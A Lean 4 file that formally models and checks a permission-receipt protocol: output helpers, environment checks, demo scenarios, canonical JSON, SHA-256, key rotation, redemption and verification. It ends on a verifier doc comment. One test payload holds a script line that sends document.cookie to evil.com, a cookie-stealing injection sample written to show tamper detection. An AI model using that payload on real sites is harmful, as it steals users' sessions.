import Mathlib

/-!
# Permission Protocol reference repository — verification of the specification

This file gives a shallow embedding, in Lean 4, of the parts of the
`permission-protocol/reference` repository that the specification's claims
are about, together with theorems settling each claim.

The repository consists of a TypeScript reference demo
(`reference-demo/src`), the receipt standard and the receipt
signing-and-verification documentation.  The signing/verification core
(canonicalizer, key store, verifier, redemption ledger) is described only
in documentation, not implemented in the repository; those components are
modelled from the specification's own words and are marked
`Modelled from the spec:` in their doc comments.

Conventions of the embedding:
* JavaScript strings are modelled as `String` or as `List Char`
  (whichever makes the relevant structure visible); all string data in
  the repository that the claims touch is ASCII, where the two agree.
* Timestamps are modelled as natural numbers (epoch milliseconds); the
  ISO-8601 rendering used inside signable payloads is abstracted as
  `toString` of that number.
* `process.exit(1)` is modelled as `Except.error 1`; a thrown exception
  is modelled as `Except.error`.
* Machine integers do not occur: all arithmetic in the embedded code is
  on `Nat` with explicit `% 2 ^ 32` where the SHA-256 model overflows.
-/

namespace PermissionProtocol

/-! ## `reference-demo/src/output.ts` -/

/-- The color names of the `COLORS` object in `output.ts`. -/
inductive ColorName
  | reset | red | green | yellow | blue | magenta | cyan | white | bold | dim
deriving DecidableEq

/-- The ANSI escape code of each entry of the `COLORS` object in `output.ts`. -/
def colorCode : ColorName → String
  | .reset => "\x1b[0m"
  | .red => "\x1b[31m"
  | .green => "\x1b[32m"
  | .yellow => "\x1b[33m"
  | .blue => "\x1b[34m"
  | .magenta => "\x1b[35m"
  | .cyan => "\x1b[36m"
  | .white => "\x1b[37m"
  | .bold => "\x1b[1m"
  | .dim => "\x1b[2m"

/-- `colorize` from `output.ts`: wrap `text` in the color's escape code and a reset. -/
def colorize (text : String) (color : ColorName) : String :=
  colorCode color ++ text ++ colorCode .reset

/-- `statusColor` from `output.ts`: the `switch` over the status string.
`APPROVED` is green, `DENIED` and `ERROR` red, `REQUIRES_APPROVAL` yellow,
everything else white. -/
def statusColor (status : String) : String :=
  if status = "APPROVED" then colorize status .green
  else if status = "DENIED" then colorize status .red
  else if status = "REQUIRES_APPROVAL" then colorize status .yellow
  else if status = "ERROR" then colorize status .red
  else colorize status .white

/-- `truncate` from `output.ts`, on the character list of the JavaScript
string: return `text` if it fits, otherwise the first `maxLength - 3`
characters followed by `"..."`.  (JavaScript `substring(0, n)` is `take n`;
its clamping of a negative `n` to `0` coincides with truncated `Nat`
subtraction.) -/
def truncate (text : List Char) (maxLength : Nat) : List Char :=
  if text.length ≤ maxLength then text
  else text.take (maxLength - 3) ++ ['.', '.', '.']

/-- The parameter tail of an ANSI escape sequence, after `ESC [`: consume
characters of the class `[0-9;]` until an `m`, as the regex
`\x1b\[[0-9;]*m` in `padRight` does; `some rest` is the input after the
closing `m`, `none` means the regex does not match here. -/
def ansiParams : List Char → Option (List Char)
  | [] => none
  | c :: rest =>
    if c = 'm' then some rest
    else if c.isDigit ∨ c = ';' then ansiParams rest
    else none

/-- Match `[` followed by `ansiParams`, i.e. the part of the regex
`\x1b\[[0-9;]*m` after the initial escape character. -/
def ansiCode : List Char → Option (List Char)
  | '[' :: rest => ansiParams rest
  | _ => none

/-- One pass of JavaScript `text.replace(/\x1b\[[0-9;]*m/g, '')`: scan left
to right, delete every match of the regex, keep everything else. -/
def stripAnsi : List Char → List Char
  | [] => []
  | c :: rest =>
    if c = '\x1b' then
      match h : ansiCode rest with
      | some rest2 => stripAnsi rest2
      | none => c :: stripAnsi rest
    else c :: stripAnsi rest
termination_by l => l.length
decreasing_by
  · have hlt : ∀ l r : List Char, ansiParams l = some r → r.length < l.length := by
      intro l
      induction l with
      | nil => intro r hr; simp [ansiParams] at hr
      | cons a as ih =>
        intro r hr
        simp only [ansiParams] at hr
        split at hr
        · cases hr; simp
        · split at hr
          · have := ih r hr
            simp only [List.length_cons]
            omega
          · cases hr
    have hcode : rest2.length < rest.length := by
      unfold ansiCode at h
      split at h
      · have := hlt _ _ h
        simp only [List.length_cons] at *
        omega
      · cases h
    simp only [List.length_cons]
    omega
  · simp
  · simp

/-- `padRight` from `output.ts`: the visible length is the length after
removing ANSI escape sequences; pad with spaces up to `width`.
(`Math.max(0, width - visibleLength)` coincides with truncated `Nat`
subtraction.) -/
def padRight (text : List Char) (width : Nat) : List Char :=
  text ++ List.replicate (width - (stripAnsi text).length) ' '

/-! ## `reference-demo/src/index.ts` -/

/-- The environment variables `validateEnv` in `index.ts` reads; `none`
models an unset variable. -/
structure DemoEnv where
  ppEndpoint : Option String
  ppApiKey : Option String
  ppTenantId : Option String
  ppAgentId : Option String
deriving DecidableEq

/-- JavaScript truthiness of an optional environment-variable value:
`undefined` and the empty string are falsy, every other string is truthy. -/
def truthy : Option String → Bool
  | none => false
  | some s => s ≠ ""

/-- JavaScript `v || dflt`: the value when truthy, the default otherwise,
as in `process.env.PP_AGENT_ID || 'demo-agent'`. -/
def jsOrElse (v : Option String) (dflt : String) : String :=
  match v with
  | some s => if s = "" then dflt else s
  | none => dflt

/-- The configuration record `validateEnv` returns. -/
structure EnvConfig where
  endpoint : String
  apiKey : String
  tenantId : String
  agentId : String
deriving DecidableEq

/-- `validateEnv` from `index.ts`: read the four `PP_*` variables, call
`process.exit(1)` (modelled as `Except.error 1`) when `PP_ENDPOINT`,
`PP_API_KEY` or `PP_TENANT_ID` is falsy (`if (!endpoint)` …), otherwise
return all four values, with `agentId` defaulting to `'demo-agent'`. -/
def validateEnv (env : DemoEnv) : Except Nat EnvConfig :=
  let endpoint := env.ppEndpoint
  let apiKey := env.ppApiKey
  let tenantId := env.ppTenantId
  let agentId := jsOrElse env.ppAgentId "demo-agent"
  if ¬ truthy endpoint then .error 1
  else if ¬ truthy apiKey then .error 1
  else if ¬ truthy tenantId then .error 1
  else .ok ⟨endpoint.getD "", apiKey.getD "", tenantId.getD "", agentId⟩

/-! ## `reference-demo/src/scenarios` — the three gated-action scenarios -/

/-- The receipt fields of an `ExecuteResult` that the demo scenarios read. -/
structure ReceiptSummary where
  receiptId : String
  reasonCodes : List String
deriving DecidableEq

/-- The `ExecuteResult` of `PermissionRouter.execute` as the scenarios use
it: a status string (the SDK's three-state model) and the receipt. -/
structure ExecuteResult where
  status : String
  receipt : ReceiptSummary
deriving DecidableEq

/-- An observable event of a scenario `run` function: a `console.log`
(identified by which formatting call produced it) or an invocation of the
mock business tool. -/
inductive ScenarioEvent
  | logged (phase : String)
  | toolCalled (tool : String)
deriving DecidableEq

/-- The body shared by the three scenario `run` functions, given the mock
tool's name: log the REQUESTING box; if `PermissionRouter.execute` threw,
the exception propagates and nothing else runs; otherwise log the RESULT
box and invoke the mock tool (then log its result) exactly under
`if (result.status === 'APPROVED')`. -/
def scenarioRun (toolName : String) (outcome : Except String ExecuteResult) :
    List ScenarioEvent :=
  .logged "REQUESTING" ::
    match outcome with
    | .error _ => []
    | .ok result =>
      .logged "RESULT" ::
        (if result.status = "APPROVED" then
          [.toolCalled toolName, .logged "TOOL_RESULT"]
        else [])

/-- `run` of the spend scenario (`scenarios/spend.ts`): the gated mock tool
is `chargeCustomer`. -/
def runSpend (outcome : Except String ExecuteResult) : List ScenarioEvent :=
  scenarioRun "chargeCustomer" outcome

/-- `run` of the prod-write scenario (`scenarios/prod-write.ts`): the gated
mock tool is `writeRecord`. -/
def runProdWrite (outcome : Except String ExecuteResult) : List ScenarioEvent :=
  scenarioRun "writeRecord" outcome

/-- `run` of the message scenario (`scenarios/message.ts`): the gated mock
tool is `sendCampaignMessage`. -/
def runMessage (outcome : Except String ExecuteResult) : List ScenarioEvent :=
  scenarioRun "sendCampaignMessage" outcome

/-! ## `reference-demo/src/scenarios/trust-tests.ts` — the CI gate simulation -/

/-- The result record of `simulateCIGateVerification`. -/
structure GateVerification where
  blocked : Bool
  message : String
deriving DecidableEq

/-- `simulateCIGateVerification` from the trust-tests scenario: mirrors the
CI receipt gate.  An empty, `'undefined'` or `'null'` receipt id (the
JavaScript falsy check `!receiptId` plus the two literal comparisons), an
id without the `rec_`/`apr_` prefix, and a well-formed but unknown id all
yield `blocked: true` with an explanatory message. -/
def simulateCIGateVerification (receiptId : String) : GateVerification :=
  if receiptId = "" ∨ receiptId = "undefined" ∨ receiptId = "null" then
    { blocked := true
      message := "No receipt ID provided. No receipt = No deploy." }
  else if ¬ receiptId.startsWith "rec_" ∧ ¬ receiptId.startsWith "apr_" then
    { blocked := true
      message := "Invalid receipt ID format: \"" ++ receiptId ++
        "\". Expected rec_ or apr_ prefix." }
  else
    { blocked := true
      message := "Receipt not found: \"" ++ receiptId ++
        "\". The receipt may have expired or the ID may be incorrect." }

/-! ## The decision vocabulary at the public interfaces -/

/-- The `decision` enum of the receipt standard's Required Fields table
(the receipt-standard document): `APPROVED`, `DENIED`, or
`REQUIRES_APPROVAL`. -/
def receiptStandardDecisionEnum : List String :=
  ["APPROVED", "DENIED", "REQUIRES_APPROVAL"]

/-- The receipt view of the documented success response of
`POST /api/v1/receipts/verify` in the signing documentation. -/
structure VerifyResponseReceiptView where
  id : String
  decision : String
  scope : String
  scopeRef : String
  scopeSha : String
  issuedAt : String
  expiresAt : String
  redeemedAt : String
deriving DecidableEq

/-- The success-response example documented for
`POST /api/v1/receipts/verify`: its `decision` field is the
hosted-vocabulary value `"ALLOW"`. -/
def verifySuccessResponseExample : VerifyResponseReceiptView :=
  { id := "uuid"
    decision := "ALLOW"
    scope := "github:merge"
    scopeRef := "refs/pull/16/merge"
    scopeSha := "commit-sha"
    issuedAt := "ISO-8601"
    expiresAt := "ISO-8601"
    redeemedAt := "ISO-8601" }

/-- Modelled from the spec: "only APPROVED receipts are ever signed".  The
signing service is documented but not implemented in this repository, so
signing eligibility of a decision value is modelled as this predicate. -/
def signingEligible (decision : String) : Bool :=
  decision == "APPROVED"

/-! ## The Canonicalizer, modelled from the spec

The signing/verification core is documented but not implemented in this
repository; the definitions below are modelled from the specification's
§4.1 (JSON Canonicalization Scheme over the signable subset, then
SHA-256) and the receipt standard's `inputHash` description. -/

/-- The lowercase hexadecimal digit of a value below 16. -/
def hexDigit (n : Nat) : Char :=
  if n < 10 then Char.ofNat (48 + n) else Char.ofNat (87 + n % 16)

/-- The numeric value of a lowercase hexadecimal digit. -/
def hexVal (c : Char) : Nat :=
  if 97 ≤ c.toNat then c.toNat - 87 else c.toNat - 48

/-- Modelled from the spec: canonical JSON string escaping (JCS, RFC 8785):
`"` and `\` get a backslash escape, the control characters BS, TAB, LF, FF,
CR get their short escapes, every other control character below U+0020
becomes `\u00XX` with lowercase hex, and everything else is emitted
verbatim. -/
def escapeChar (c : Char) : List Char :=
  if c = '"' then ['\\', '"']
  else if c = '\\' then ['\\', '\\']
  else if c = '\x08' then ['\\', 'b']
  else if c = '\x09' then ['\\', 't']
  else if c = '\x0a' then ['\\', 'n']
  else if c = '\x0c' then ['\\', 'f']
  else if c = '\x0d' then ['\\', 'r']
  else if c.toNat < 32 then
    ['\\', 'u', '0', '0', hexDigit (c.toNat / 16), hexDigit (c.toNat % 16)]
  else [c]

/-- JCS escaping of a whole string. -/
def escapeString : List Char → List Char
  | [] => []
  | c :: rest => escapeChar c ++ escapeString rest

/-- A canonical JSON string literal: quote, escaped content, quote. -/
def jsonString (s : String) : List Char :=
  '"' :: (escapeString s.data ++ ['"'])

/-- One canonical JSON object member, `"key":value`. -/
def jsonMember (key : String) (value : List Char) : List Char :=
  jsonString key ++ (':' :: value)

/-- A canonical JSON object from its already-sorted member list: no
insignificant whitespace, members separated by commas. -/
def jsonObject (members : List (List Char)) : List Char :=
  '\x7b' :: (List.intercalate [','] members ++ ['\x7d'])

/-- The signable subset of a receipt (spec §4.1):
`{decision, expiresAt, issuedAt, receiptId, scope, scopeRef, scopeSha}`.
Timestamps are carried in their ISO-8601 string rendering, as in the
documented signature payload. -/
structure SignablePayload where
  decision : String
  expiresAt : String
  issuedAt : String
  receiptId : String
  scope : String
  scopeRef : String
  scopeSha : String
deriving DecidableEq

/-- Modelled from the spec: JCS canonicalization of the signable subset —
object keys sorted lexicographically (`decision`, `expiresAt`, `issuedAt`,
`receiptId`, `scope`, `scopeRef`, `scopeSha` already is the sorted order),
no insignificant whitespace, canonical string escaping. -/
def canonicalizeSignable (p : SignablePayload) : List Char :=
  jsonObject
    [ jsonMember "decision" (jsonString p.decision),
      jsonMember "expiresAt" (jsonString p.expiresAt),
      jsonMember "issuedAt" (jsonString p.issuedAt),
      jsonMember "receiptId" (jsonString p.receiptId),
      jsonMember "scope" (jsonString p.scope),
      jsonMember "scopeRef" (jsonString p.scopeRef),
      jsonMember "scopeSha" (jsonString p.scopeSha) ]

/-! ### SHA-256 (FIPS 180-4), on `Nat` words reduced modulo `2 ^ 32` -/

/-- Addition modulo `2 ^ 32`. -/
def add32 (a b : Nat) : Nat := (a + b) % 4294967296

/-- Right rotation of a 32-bit word by `n` bits. -/
def rotr32 (n w : Nat) : Nat :=
  ((w >>> n) ||| (w <<< (32 - n))) % 4294967296

/-- Bitwise complement within 32 bits. -/
def not32 (w : Nat) : Nat := 4294967295 - w

/-- FIPS 180-4 Σ₀. -/
def bigSigma0 (x : Nat) : Nat := (rotr32 2 x) ^^^ (rotr32 13 x) ^^^ (rotr32 22 x)

/-- FIPS 180-4 Σ₁. -/
def bigSigma1 (x : Nat) : Nat := (rotr32 6 x) ^^^ (rotr32 11 x) ^^^ (rotr32 25 x)

/-- FIPS 180-4 σ₀. -/
def smallSigma0 (x : Nat) : Nat := (rotr32 7 x) ^^^ (rotr32 18 x) ^^^ (x >>> 3)

/-- FIPS 180-4 σ₁. -/
def smallSigma1 (x : Nat) : Nat := (rotr32 17 x) ^^^ (rotr32 19 x) ^^^ (x >>> 10)

/-- FIPS 180-4 Ch. -/
def shaCh (x y z : Nat) : Nat := (x &&& y) ^^^ ((not32 x) &&& z)

/-- FIPS 180-4 Maj. -/
def shaMaj (x y z : Nat) : Nat := (x &&& y) ^^^ (x &&& z) ^^^ (y &&& z)

/-- The 64 SHA-256 round constants (FIPS 180-4 §4.2.2). -/
def shaK : List Nat :=
  [1116352408, 1899447441, 3049323471, 3921009573, 961987163, 1508970993,
   2453635748, 2870763221, 3624381080, 310598401, 607225278, 1426881987,
   1925078388, 2162078206, 2614888103, 3248222580, 3835390401, 4022224774,
   264347078, 604807628, 770255983, 1249150122, 1555081692, 1996064986,
   2554220882, 2821834349, 2952996808, 3210313671, 3336571891, 3584528711,
   113926993, 338241895, 666307205, 773529912, 1294757372, 1396182291,
   1695183700, 1986661051, 2177026350, 2456956037, 2730485921, 2820302411,
   3259730800, 3345764771, 3516065817, 3600352804, 4094571909, 275423344,
   430227734, 506948616, 659060556, 883997877, 958139571, 1322822218,
   1537002063, 1747873779, 1955562222, 2024104815, 2227730452, 2361852424,
   2428436474, 2756734187, 3204031479, 3329325298]

/-- The initial hash value (FIPS 180-4 §5.3.3). -/
def shaH0 : List Nat :=
  [1779033703, 3144134277, 1013904242, 2773480762,
   1359893119, 2600822924, 528734635, 1541459225]

/-- Message schedule: extend the 16 block words by `t` further words. -/
def shaSchedule (ws : List Nat) : Nat → List Nat
  | 0 => ws
  | Nat.succ t =>
    let prev := shaSchedule ws t
    let n := prev.length
    prev ++ [add32 (add32 (smallSigma1 (prev.getD (n - 2) 0)) (prev.getD (n - 7) 0))
                   (add32 (smallSigma0 (prev.getD (n - 15) 0)) (prev.getD (n - 16) 0))]

/-- One round of the SHA-256 compression function on the 8-word state. -/
def shaRound (st : List Nat) (kt wt : Nat) : List Nat :=
  match st with
  | [a, b, c, d, e, f, g, h] =>
    let t1 := add32 (add32 (add32 h (bigSigma1 e)) (add32 (shaCh e f g) kt)) wt
    let t2 := add32 (bigSigma0 a) (shaMaj a b c)
    [add32 t1 t2, a, b, c, add32 d t1, e, f, g]
  | _ => st

/-- Compress one 512-bit block (as 16 words) into the running state. -/
def shaCompress (st : List Nat) (block : List Nat) : List Nat :=
  let ws := shaSchedule block 48
  let final := (List.zip shaK ws).foldl (fun s kw => shaRound s kw.1 kw.2) st
  (List.zip st final).map (fun p => add32 p.1 p.2)

/-- Group a byte list into 32-bit big-endian words. -/
def bytesToWords : List Nat → List Nat
  | b0 :: b1 :: b2 :: b3 :: rest =>
    (((b0 * 256 + b1) * 256 + b2) * 256 + b3) :: bytesToWords rest
  | _ => []

/-- Split a word list into 16-word blocks (the padded length is always a
multiple of 16 words). -/
def chunk16 : List Nat → List (List Nat)
  | w0 :: w1 :: w2 :: w3 :: w4 :: w5 :: w6 :: w7 ::
    w8 :: w9 :: w10 :: w11 :: w12 :: w13 :: w14 :: w15 :: rest =>
    [w0, w1, w2, w3, w4, w5, w6, w7, w8, w9, w10, w11, w12, w13, w14, w15] :: chunk16 rest
  | _ => []

/-- SHA-256 padding: append `0x80`, zero bytes to 56 mod 64, and the
64-bit big-endian bit length. -/
def shaPad (msg : List Nat) : List Nat :=
  let len := msg.length
  let zeros := (64 - (len + 9) % 64) % 64
  msg ++ [0x80] ++ List.replicate zeros 0 ++
    [(len * 8) >>> 56 % 256, (len * 8) >>> 48 % 256, (len * 8) >>> 40 % 256,
     (len * 8) >>> 32 % 256, (len * 8) >>> 24 % 256, (len * 8) >>> 16 % 256,
     (len * 8) >>> 8 % 256, (len * 8) % 256]

/-- SHA-256 of a byte list, as the 8 words of the digest. -/
def sha256Words (msg : List Nat) : List Nat :=
  (chunk16 (bytesToWords (shaPad msg))).foldl shaCompress shaH0

/-- The 8 lowercase hex digits of one 32-bit word. -/
def wordToHex (w : Nat) : List Char :=
  [hexDigit (w >>> 28 % 16), hexDigit (w >>> 24 % 16), hexDigit (w >>> 20 % 16),
   hexDigit (w >>> 16 % 16), hexDigit (w >>> 12 % 16), hexDigit (w >>> 8 % 16),
   hexDigit (w >>> 4 % 16), hexDigit (w % 16)]

/-- The lowercase hex digest of a byte list. -/
def sha256Hex (msg : List Nat) : String :=
  ⟨(sha256Words msg).flatMap wordToHex⟩

/-- The UTF-8 encoding of one character, as byte values. -/
def utf8Bytes (c : Char) : List Nat :=
  let n := c.toNat
  if n < 128 then [n]
  else if n < 2048 then [192 + n / 64, 128 + n % 64]
  else if n < 65536 then [224 + n / 4096, 128 + (n / 64) % 64, 128 + n % 64]
  else [240 + n / 262144, 128 + (n / 4096) % 64, 128 + (n / 64) % 64, 128 + n % 64]

/-- The UTF-8 encoding of a character list. -/
def utf8Encode (s : List Char) : List Nat :=
  s.flatMap utf8Bytes

/-! ### `computeHash` over `HashablePayloadV1`, modelled from the spec -/

/-- Lexicographic code-point order on character lists, used for JCS key
sorting. -/
def charListLe : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: as, b :: bs =>
    if a.toNat < b.toNat then true
    else if a.toNat = b.toNat then charListLe as bs
    else false

/-- Insert one key-value pair into a key-sorted list. -/
def insertByKey (kv : String × String) :
    List (String × String) → List (String × String)
  | [] => [kv]
  | kv' :: rest =>
    if charListLe kv.1.data kv'.1.data then kv :: (kv' :: rest)
    else kv' :: insertByKey kv rest

/-- Sort a member list by key (insertion sort, code-point order). -/
def sortByKey : List (String × String) → List (String × String)
  | [] => []
  | kv :: rest => insertByKey kv (sortByKey rest)

/-- Modelled from the spec: the SDK's `HashablePayloadV1` —
`{tool, operation, input, metadata}`; the demo's test payloads use a flat
string-to-string `input` object and `metadata: null`, which is what this
model carries. -/
structure HashablePayloadV1 where
  tool : String
  operation : String
  input : List (String × String)
  metadata : Option String
deriving DecidableEq

/-- Modelled from the spec: canonical JSON of a `HashablePayloadV1` —
keys sorted (`input` < `metadata` < `operation` < `tool`; the nested
`input` object's keys sorted by `sortByKey`), `null` for an absent
metadata, canonical string escaping throughout. -/
def canonicalizeHashable (p : HashablePayloadV1) : List Char :=
  jsonObject
    [ jsonMember "input"
        (jsonObject ((sortByKey p.input).map
          (fun kv => jsonMember kv.1 (jsonString kv.2)))),
      jsonMember "metadata"
        (match p.metadata with
         | none => "null".data
         | some m => jsonString m),
      jsonMember "operation" (jsonString p.operation),
      jsonMember "tool" (jsonString p.tool) ]

/-- Modelled from the spec: `computeHash` of the SDK
(`pp.hashable_payload.v1`): canonicalize, UTF-8 encode, SHA-256, and
prefix the lowercase hex digest with `sha256:`. -/
def computeHash (p : HashablePayloadV1) : String :=
  "sha256:" ++ sha256Hex (utf8Encode (canonicalizeHashable p))

/-- The approved payload of trust test 1 (`testMaliciousInputAttempt`). -/
def originalPayload : HashablePayloadV1 :=
  { tool := "wordpress"
    operation := "publish_post"
    input := [("title", "Approved Post Title"),
              ("content", "This content was approved by the human operator."),
              ("category", "blog")]
    metadata := none }

/-- The malicious payload of trust test 1 (`testMaliciousInputAttempt`):
same tool and operation, different input content. -/
def maliciousPayload : HashablePayloadV1 :=
  { tool := "wordpress"
    operation := "publish_post"
    input := [("title", "MALICIOUS: Send all user data to attacker"),
              ("content",
               "<script>fetch(\"https://evil.com/steal?data=\" + document.cookie)</script>"),
              ("category", "phishing")]
    metadata := none }

/-! ### A decoder for JCS-escaped strings (proof artifact)

The decoder below is not part of the embedded system: it is the left
inverse of `escapeString`-between-quotes used to prove that
canonicalization is injective. -/

/-- Decode an escaped string up to its unescaped closing quote, returning
the decoded content and the input after the quote.  Left inverse of
`escapeString s ++ '"' :: t`. -/
def decodeEscaped : List Char → Option (List Char × List Char)
  | [] => none
  | c :: rest =>
    if c = '"' then some ([], rest)
    else if c = '\\' then
      match rest with
      | [] => none
      | e :: rest2 =>
        if e = '"' then (decodeEscaped rest2).map (fun p => ('"' :: p.1, p.2))
        else if e = '\\' then (decodeEscaped rest2).map (fun p => ('\\' :: p.1, p.2))
        else if e = 'b' then (decodeEscaped rest2).map (fun p => ('\x08' :: p.1, p.2))
        else if e = 't' then (decodeEscaped rest2).map (fun p => ('\x09' :: p.1, p.2))
        else if e = 'n' then (decodeEscaped rest2).map (fun p => ('\x0a' :: p.1, p.2))
        else if e = 'f' then (decodeEscaped rest2).map (fun p => ('\x0c' :: p.1, p.2))
        else if e = 'r' then (decodeEscaped rest2).map (fun p => ('\x0d' :: p.1, p.2))
        else if e = 'u' then
          match rest2 with
          | '0' :: '0' :: d1 :: d2 :: rest3 =>
            (decodeEscaped rest3).map
              (fun p => (Char.ofNat (16 * hexVal d1 + hexVal d2) :: p.1, p.2))
          | _ => none
        else none
    else (decodeEscaped rest).map (fun p => (c :: p.1, p.2))

/-- A key-value segment of the canonical form, as peeled by the
injectivity proof (proof artifact). -/
def kvSeg (key value : String) (rest : List Char) : List Char :=
  '"' :: (escapeString key.data ++
    ('"' :: (':' :: ('"' :: (escapeString value.data ++ ('"' :: rest))))))

/-! ## The KeyStore, modelled from the spec

Spec §4.2 and §3: signing keys with `status ∈ {active, rotated, revoked}`,
`rotate` inserting a new active key and atomically demoting the prior
active key, `revoke` setting a key's status to revoked.  The store of one
environment is modelled as the list of its `SigningKey` records. -/

/-- The status of a signing key: `active`, `rotated` or `revoked`. -/
inductive KeyStatus
  | active | rotated | revoked
deriving DecidableEq

/-- A `SigningKey` record (spec §3): id, algorithm, key material, status,
creation time. -/
structure SigningKey where
  keyId : String
  algorithm : String
  publicKey : String
  privateKey : String
  status : KeyStatus
  createdAt : Nat
deriving DecidableEq

/-- Modelled from the spec: `getActiveKey()` — the (first) key with
`status = active`; `none` models the `NoActiveKey` failure. -/
def getActiveKey (store : List SigningKey) : Option SigningKey :=
  store.find? (fun k => k.status == KeyStatus.active)

/-- Modelled from the spec: `getKey(keyId)` — resolve a key id;
`none` models `NotFound`. -/
def getKey (store : List SigningKey) (keyId : String) : Option SigningKey :=
  store.find? (fun k => k.keyId == keyId)

/-- Modelled from the spec: `rotate(newKey)` — fails if `newKey.keyId`
collides with an existing id; otherwise atomically demotes the prior
active key (if any) to `rotated` and inserts `newKey` as active. -/
def rotate (store : List SigningKey) (newKey : SigningKey) :
    Except String (List SigningKey) :=
  if store.any (fun k => k.keyId == newKey.keyId) then
    .error "KeyIdCollision"
  else
    .ok ((store.map fun k =>
           if k.status == KeyStatus.active then { k with status := .rotated } else k)
         ++ [{ newKey with status := .active }])

/-- Modelled from the spec: `revoke(keyId)` — sets the key's status to
`revoked` regardless of its prior status; fails if the key does not
exist. -/
def revoke (store : List SigningKey) (keyId : String) :
    Except String (List SigningKey) :=
  if store.any (fun k => k.keyId == keyId) then
    .ok (store.map fun k =>
      if k.keyId == keyId then { k with status := .revoked } else k)
  else .error "NotFound"

/-- One KeyStore operation of a rotate/revoke history. -/
inductive KeyStoreOp
  | rotate (newKey : SigningKey)
  | revoke (keyId : String)

/-- Apply one operation; a failed operation leaves the store unchanged. -/
def applyOp (store : List SigningKey) : KeyStoreOp → List SigningKey
  | .rotate k =>
    match rotate store k with
    | .ok s => s
    | .error _ => store
  | .revoke i =>
    match revoke store i with
    | .ok s => s
    | .error _ => store

/-- Apply a sequence of rotate/revoke operations. -/
def applyOps (store : List SigningKey) (ops : List KeyStoreOp) : List SigningKey :=
  ops.foldl applyOp store

/-- The number of keys with `status = active` in a store. -/
def countActive (store : List SigningKey) : Nat :=
  (store.filter (fun k => k.status == KeyStatus.active)).length

/-- The position of a status along the one-directional lifecycle
active → rotated → revoked. -/
def statusRank : KeyStatus → Nat
  | .active => 0
  | .rotated => 1
  | .revoked => 2

/-! ## The RedemptionLedger, modelled from the spec

Spec §4.5: `tryRedeem(receiptId, now)` is a single atomic conditional
update — set `redeemedAt = now` only if it is currently null.  Because
each call is one indivisible operation, any concurrent execution of N
calls is equivalent to some serial order of the N atomic updates; the
model therefore quantifies over all serial orders. -/

/-- The result of a redemption attempt. -/
inductive RedeemOutcome
  | ok | alreadyRedeemed
deriving DecidableEq

/-- Modelled from the spec: the atomic compare-and-set of `tryRedeem` on
one receipt's `redeemedAt` cell: set it to `now` only if it is null,
otherwise leave it and report `AlreadyRedeemed`. -/
def tryRedeem (redeemedAt : Option Nat) (now : Nat) :
    RedeemOutcome × Option Nat :=
  match redeemedAt with
  | none => (.ok, some now)
  | some t => (.alreadyRedeemed, some t)

/-- Run one serialization of concurrent `tryRedeem` calls (one list entry
per call, carrying that call's timestamp) against a receipt's
`redeemedAt` cell, collecting each call's outcome and the final cell. -/
def runRedeemCalls (redeemedAt : Option Nat) :
    List Nat → List RedeemOutcome × Option Nat
  | [] => ([], redeemedAt)
  | now :: rest =>
    let r := tryRedeem redeemedAt now
    let rec' := runRedeemCalls r.2 rest
    (r.1 :: rec'.1, rec'.2)

/-! ## The Verifier, modelled from the spec

Spec §4.4: ordered checks, short-circuiting on the first failure, each
failure mapped to a distinct code; on success with `redeem = true` the
RedemptionLedger's atomic redeem is invoked and a race loss is reported
as `PP_REDEEMED`.  The external receipt store is modelled as a function
from receipt id to stored receipt; Ed25519 signature verification is a
parameter (`edVerify signature digest publicKey`), applied to the
canonical SHA-256 digest recomputed from the receipt's stored fields. -/

/-- The signing mode, from the configuration surface. -/
inductive SigningMode
  | required | optional | disabled
deriving DecidableEq

/-- A stored receipt, as the Verifier reads it (spec §3). -/
structure StoredReceipt where
  receiptId : String
  decision : String
  scope : String
  scopeRef : String
  scopeSha : String
  issuedAt : Nat
  expiresAt : Nat
  redeemedAt : Option Nat
  signature : Option String
  keyId : Option String
deriving DecidableEq

/-- A verify request: `{receiptId, scope, scopeRef, scopeSha, redeem}`. -/
structure VerifyRequest where
  receiptId : String
  scope : String
  scopeRef : String
  scopeSha : String
  redeem : Bool
deriving DecidableEq

/-- The public view of a receipt returned on success: no raw signature
material beyond the key id. -/
structure ReceiptPublicView where
  receiptId : String
  decision : String
  scope : String
  scopeRef : String
  scopeSha : String
  issuedAt : Nat
  expiresAt : Nat
  redeemedAt : Option Nat
  keyId : Option String
deriving DecidableEq

/-- Project a stored receipt to its public view. -/
def toPublicView (r : StoredReceipt) : ReceiptPublicView :=
  { receiptId := r.receiptId
    decision := r.decision
    scope := r.scope
    scopeRef := r.scopeRef
    scopeSha := r.scopeSha
    issuedAt := r.issuedAt
    expiresAt := r.expiresAt
    redeemedAt := r.redeemedAt
    keyId := r.keyId }

/-- The outcome of `verify`: `{valid: true, receipt}` or
`{valid: false, code}`. -/
inductive VerifyOutcome
  | valid (receipt : ReceiptPublicView)
  | invalid (code : String)
deriving DecidableEq

/-- The six documented verification error codes. -/
def ppErrorCodes : List String :=
  ["PP_NO_RECEIPT", "PP_EXPIRED", "PP_REDEEMED", "PP_SCOPE_MISMATCH",
   "PP_UNSIGNED_RECEIPT", "PP_INVALID_SIGNATURE"]

/-- The signable subset of a stored receipt, timestamps rendered to
strings. -/
def signableOf (r : StoredReceipt) : SignablePayload :=
  { decision := r.decision
    expiresAt := toString r.expiresAt
    issuedAt := toString r.issuedAt
    receiptId := r.receiptId
    scope := r.scope
    scopeRef := r.scopeRef
    scopeSha := r.scopeSha }

/-- The canonical SHA-256 digest of a receipt's signable subset, as the
Verifier recomputes it from the stored fields. -/
def canonicalDigest (r : StoredReceipt) : String :=
  sha256Hex (utf8Encode (canonicalizeSignable (signableOf r)))

/-- Modelled from the spec: check 6 of `verify` — if a signature is
present, resolve its `keyId`; a missing or revoked key fails, otherwise
the Ed25519 verification (abstracted as `edVerify`) of the recomputed
canonical digest against the key's public key decides. -/
def signatureCheck (keys : List SigningKey)
    (edVerify : String → String → String → Bool) (r : StoredReceipt) : Bool :=
  match r.signature with
  | none => true
  | some sig =>
    match getKey keys (r.keyId.getD "") with
    | none => false
    | some k =>
      if k.status = .revoked then false
      else edVerify sig (canonicalDigest r) k.publicKey

/-- Modelled from the spec: `verify(request)` (spec §4.4) — the ordered,
short-circuiting checks: 1 missing receipt, 2 expiry, 3 redemption state,
4 exact scope triple match, 5 unsigned-when-required, 6 signature (missing
or revoked key, or Ed25519 mismatch, all `PP_INVALID_SIGNATURE`), 7 atomic
redemption when `redeem = true`, a race loss reported as `PP_REDEEMED`.
Returns the outcome and the (possibly redeemed) store. -/
